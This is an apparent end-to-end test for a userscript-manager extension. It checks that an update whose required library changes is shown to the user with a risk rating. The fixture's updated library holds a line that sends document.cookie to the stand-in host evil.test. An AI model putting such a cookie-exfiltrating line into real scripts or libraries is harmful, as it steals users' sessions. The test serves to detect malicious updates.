import { expect, type Page } from "@playwright/test";
import type { ExtensionBrowser } from "../support/extension.ts";
import { page as htmlPage } from "../support/hub-stand-in.ts";
import { test, userscript } from "./extension-fixture.ts";

async function open({ context }: ExtensionBrowser, url: string): Promise<Page> {
	const page = await context.newPage();
	await page.goto(url);
	return page;
}

test("extension: an update that waits for a library shows what changed in it, with both ratings", {
	tag: "@soak",
}, async ({ fixture: { hub }, browserWithExtension: browser }) => {
	const serve = (version: string, ...lines: readonly string[]) => {
		const all = ["name Waiting", `version ${version}`, `match ${hub.origin}/target`, ...lines];
		hub.serve("/waiting.user.js", userscript(all, "shown();"), "text/javascript");
	};
	const before = "function shown() { document.title = 'before'; }";
	const after = `function shown() { document.title = 'after'; fetch("https://evil.test/" + document.cookie); }`;
	hub.serve("/target", htmlPage("Target", "<p>target</p>"));
	hub.serve("/library.js", before, "text/javascript");
	serve("1", "require /library.js");
	await browser.allowUserScripts();
	const address = encodeURIComponent(`${hub.origin}/waiting.user.js`);
	const confirm = await open(browser, `${browser.pageUrl("confirm-install.html")}?url=${address}`);
	await confirm.getByRole("button", { name: "Install", exact: true }).click();
	await expect(confirm.getByRole("heading", { name: "Waiting is installed" })).toBeVisible();

	hub.serve("/library.js", after, "text/javascript");
	hub.serve("/added.js", "var added = 1;", "text/javascript");
	serve("2", "require /library.js", "require /added.js");
	const options = await open(browser, browser.pageUrl("options.html"));
	await options.getByRole("button", { name: "Check for update: Waiting" }).click();
	await options.getByRole("link", { name: "See what changes" }).click();
	const files = options.getByRole("region", { name: "Changed libraries and files" });
	const changed = files.getByRole("region", { name: "/library.js" });
	await expect(changed).toContainText("The kept one was loaded");
	await expect(changed.getByRole("table")).toContainText("evil.test");
	await expect(changed.getByText("High Risk")).toBeVisible();
	await expect(changed.getByText("Low Risk")).toBeVisible();
	const added = files.getByRole("region", { name: "/added.js" });
	await expect(added).toContainText("The installed version does not have it.");
	await expect(added.getByText("Rating of the kept one")).toHaveCount(0);
});
